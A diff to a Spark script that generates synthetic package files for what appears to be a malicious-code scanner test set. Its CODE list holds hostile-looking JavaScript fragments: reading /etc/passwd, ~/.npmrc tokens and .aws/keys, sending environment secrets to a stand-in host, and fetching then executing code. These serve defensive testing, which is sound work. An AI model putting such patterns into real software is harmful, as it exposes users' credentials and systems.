@@ -46,6 +46,32 @@ SNIPPETS = [
     "const b = fetch(u);\nfs.writeFileSync(p, b);\nexec(b);",
 ]
 N = len(SNIPPETS)
+#: Statements and calls over several lines: one of these follows each document, which is a block comment then.
+CODE = [
+    "eval(\n  input\n);",
+    "eval('static'); var fn = new Function(\n  'a', body);",
+    "require('child_process')\n  .exec(cmd);",
+    "import(\n  'child_process'\n);",
+    "fs.readFileSync(\n  '/etc/passwd', 'utf8');",
+    "const key = process.env.KEY;\nfetch('http://x.example/' + key);",
+    "const enc = Buffer.from(data)\n  .toString('base64');\nfetch(url + enc);",
+    "f()()()()()()(1);",
+    "table[0x1f](x);\ntable[i + 1](y);\ntable['k'](z);",
+    "var s = 'e' + 'v' +\n  'a' + 'l';",
+    "process.binding('fs');\nvm.runInThisContext(code);",
+    "Reflect.apply(require, null, [name]);",
+    "const a = 1; // eval(x)\n/* new Function(y) */ const t = `eval(z)`;",
+    "const body = fetch(url);\nfs.writeFileSync(\n  target,\n  body);\nexecSync(target + body);",
+    "const token = fs.readFileSync(home + '/.npmrc'),\n  sent = { token };\nhttp.request(sent);",
+    "const secret = process.env.S;\nonReady(function () {\n  const copy = secret;\n  fetch(secret);\n  exec(copy);\n});",
+    "let pick;\npick = process.env.P;\nreply = axios.post(api, pick);",
+    "const creds = fs.readFile('.aws/keys');\nwhenReady(() => {\n  request(creds);\n});",
+    "const one = fetch(a);\nconst two = one;\nconst three = two + 1;\neval(three);",
+    "const host = process.env.H;\naxios[host](1);",
+    "const home = process.env.HOME;\nspawn('ls', home);",
+    "module.exports = 1;",
+    "if (go) { var e = process.env.E; }\nelse { fetch(e); }",
+]
 DIRS = ["lib/", "src/", "dist/", "config/", "test/", "Build/x/", "adapters/", "scripts/"]
 EXTS = [".js", ".ts", ".min.js", ".mjs", ".json", ".md", ".jsx"]
 
@@ -77,6 +103,21 @@ def files(spark: SparkSession, sf_dir: str) -> DataFrame:
     return joined.select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(spark_sql(PATH)).alias("path"), F.concat(F.coalesce("text", F.lit("")), F.lit("\n"), "snippet").alias("content"), "doc_id")
 
 
+#: Every second round of documents wraps its code in a function.
+WRAPPED = f"((doc_id // {len(CODE)}) % 2 = 1)"
+
+
+def scripts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Files of one comment, the document, and a piece of CODE, some of it inside a function."""
+    docs = spark.read.parquet(f"{sf_dir}/documents.parquet")
+    codes = spark.createDataFrame(list(enumerate(CODE)), "k long, code string")
+    joined = docs.join(F.broadcast(codes), F.col("doc_id") % len(CODE) == F.col("k"))  # a fixed list
+    wrapped = F.expr(spark_sql(WRAPPED))
+    inside = F.when(wrapped, F.concat(F.lit("function w"), F.col("doc_id").cast("string"), F.lit("(a) {\n"), "code", F.lit("\n}"))).otherwise(F.col("code"))
+    comment = F.concat(F.lit("/* "), F.replace(F.coalesce("text", F.lit("")), F.lit("*/"), F.lit("* /")), F.lit(" */\n"))
+    return joined.select(F.col("source").alias("package"), F.lit("1.0.0").alias("version"), F.expr(spark_sql(PATH)).alias("path"), F.concat(comment, inside).alias("content"))
+
+
 FILES_SQL = f"""snippets(k, snippet) AS (VALUES {", ".join(f"({i}, {quote(s)})" for i, s in enumerate(SNIPPETS))}),
 files AS (SELECT source AS package, '1.0.0' AS version, {PATH} AS path, coalesce(text, '') || chr(10) || snippet AS content, doc_id FROM documents JOIN snippets ON doc_id % {N} = k),
 split AS (SELECT *, string_split(content, chr(10)) AS p FROM files),
